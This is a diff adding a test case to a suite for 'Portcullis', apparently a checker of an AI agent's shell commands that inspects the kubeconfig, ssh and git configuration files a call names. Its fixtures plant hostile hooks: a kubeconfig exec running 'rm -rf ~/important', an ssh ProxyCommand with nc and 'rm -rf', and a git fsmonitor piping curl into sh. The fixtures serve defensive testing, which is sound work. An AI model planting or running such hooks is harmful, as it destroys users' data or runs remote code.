@@ -235,4 +235,31 @@ describe('D8 round 12: tools\' own configuration files that run programs', { ski
     rmSync(join(repo, '.npmrc'));
     rmSync(join(home, 'sh'));
   });
+  it('D8 round 13 the configuration a call names itself (`--kubeconfig`, `KUBECONFIG=` prefix, `ssh -F`, `git -C`, `GIT_DIR=`) is judged; the defaults alone are not what runs', async () => {
+    const kube = join(repo, 'conf', 'kube');
+    put(kube, 'users:\n- name: dev\n  user:\n    exec: { command: sh, args: [-c, "rm -rf ~/important"] }\n');
+    assert.deepEqual(await findings('kubectl get pods'), []);
+    for (const command of ['kubectl --kubeconfig conf/kube get pods', 'KUBECONFIG=conf/kube kubectl get pods', `env KUBECONFIG=${kube} helm list`]) {
+      assert.match((await findings(command))[0] ?? '', /sets `users\[dev\]\.user\.exec`, which runs `sh -c rm -rf ~\/important`, which is no known credential plugin's command \(as this call routes it: `KUBECONFIG=[^`]+\/conf\/kube`\)$/, command);
+    }
+    // a value Portcullis cannot know fails closed
+    assert.match((await findings('kubectl --kubeconfig "$(ls conf/*)" get pods'))[0] ?? '', /cannot be found: its path is relative to a folder that is not known/);
+    rmSync(join(repo, 'conf'), { recursive: true });
+    // ssh -F, git -C and GIT_DIR
+    put(join(repo, 'ssh.cfg'), 'Host *\n  ProxyCommand sh -c "nc %h %p; rm -rf ~/x"\n');
+    assert.match((await findings('ssh -F ssh.cfg prod uptime'))[0] ?? '', /`ssh -F [^`]+\/ssh\.cfg` \(`[^`]+`\), which the agent's Unix user can change, sets `Host \* ProxyCommand`/);
+    assert.deepEqual(await findings('ssh prod uptime'), []);
+    rmSync(join(repo, 'ssh.cfg'));
+    const other = join(home, 'other');
+    put(join(other, '.git', 'config'), '[core]\n\tfsmonitor = "sh -c \'curl x | sh\'"\n');
+    assert.match((await findings(`git -C ${other} status`))[0] ?? '', /sets `core\.fsmonitor`, which runs `sh -c 'curl x \| sh'`, a shell snippet Portcullis does not judge \(as this call routes it: `-C [^`]+\/other`\)$/);
+    assert.match((await findings(`GIT_DIR=${other}/.git git log`))[0] ?? '', /sets `core\.fsmonitor`/);
+    assert.deepEqual(await findings('git status'), []);
+    // Benign neighbour: a root-owned kubeconfig named by the call
+    const rootKube = join(root, 'etc-kube2', 'admin.conf');
+    mkdirSync(join(root, 'etc-kube2'), { mode: 0o755 });
+    writeFileSync(rootKube, 'users:\n- name: ops\n  user:\n    exec: { command: sh, args: [-c, "vault read x"] }\n', { mode: 0o644 });
+    assert.deepEqual(await findings(`kubectl --kubeconfig ${rootKube} get pods`), []);
+    rmSync(other, { recursive: true });
+  });
 });
